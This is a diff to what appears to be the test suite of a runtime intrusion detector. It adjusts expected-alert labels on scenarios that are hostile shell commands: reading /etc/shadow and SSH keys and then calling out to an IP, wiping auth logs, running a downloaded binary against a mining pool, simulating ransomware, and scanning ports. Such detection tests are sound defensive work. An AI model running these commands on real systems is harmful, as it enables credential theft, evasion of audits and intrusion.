@@ -1,4 +1,5 @@
 ## Shell of a server connects out
+#also Transfer tool given a bare address
 #also Download tool started by a server
 #also Shell started by a network server
 server 'curl -s http://203.0.113.9/'
@@ -58,6 +59,7 @@ id; find /home -perm -4000; cat /etc/passwd
 #setup mkdir -p /root/.ssh; echo k > /root/.ssh/id_ed25519
 cat /root/.ssh/id_ed25519; ssh -o BatchMode=yes 10.9.8.7
 ## Secret read, then a connection to the internet
+#also Transfer tool given a bare address
 #also Password hashes read
 cat /etc/shadow; curl -s http://203.0.113.9/
 ## Archive made, then sent away
@@ -81,6 +83,7 @@ systemctl stop auditd; : > /var/log/auth.log
 #also Terminal made for a shell
 remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
 ## Downloaded program connects to a mining port
+#also Program in a scratch folder connects out
 #also Connection to a mining pool
 #also Downloaded file executed
 #also Executable run from a scratch folder
@@ -91,13 +94,13 @@ curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203
 ## Services stopped, then files encrypted
 for n in mysql nginx docker; do systemctl stop $n; done; for n in $(seq 1 11); do : > /home/ann/$n.locked; done
 ## Ports tried, then a login
+#also Ports tried by code without a file
 #setup listener 22
 python3 -c '
 import socket
 for port in list(range(30, 50)) + [22]:
   s = socket.socket(); s.connect_ex(("10.9.8.7", port)); s.close()'
 ## Shell in a container by exec, then a download
-#also Download tool in a container
 #setup image
 engine; docker run -d --name web --network none debian:12 sleep 100; docker cp /bin/true web:/usr/bin/curl; docker exec -t web sh -c 'curl http://10.9.8.7/; :'
 ## Process changed, then a connection of its own
